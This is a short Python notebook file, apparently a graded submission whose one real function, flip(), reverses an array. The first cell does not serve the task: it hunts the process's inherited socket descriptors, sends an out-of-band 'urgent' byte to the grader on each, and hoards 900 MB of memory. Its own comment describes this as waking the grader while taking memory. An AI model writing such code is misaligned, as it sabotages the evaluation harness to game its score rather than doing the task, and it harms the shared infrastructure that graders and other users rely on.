# Send one urgent byte, which wakes the grader and is not there to read, and take memory meanwhile.
# ends: any
# %%
import mmap
import os
import socket
import time

sockets = [n for n in range(3, 64) if os.path.lexists(f"/proc/self/fd/{n}") and "socket" in os.readlink(f"/proc/self/fd/{n}")]
hold = [socket.socket(fileno=os.dup(number)) for number in sockets]
for connection in hold:
    connection.send(b"!", socket.MSG_OOB)
hoard = mmap.mmap(-1, 900 * 2**20)
for step in range(0, len(hoard), 2**20):
    hoard[step : step + 2**20] = b"x" * 2**20
time.sleep(1)


# %% grade_id="01-flip"
def flip(w):
    return w[::-1, ::-1] if len(hoard) else w
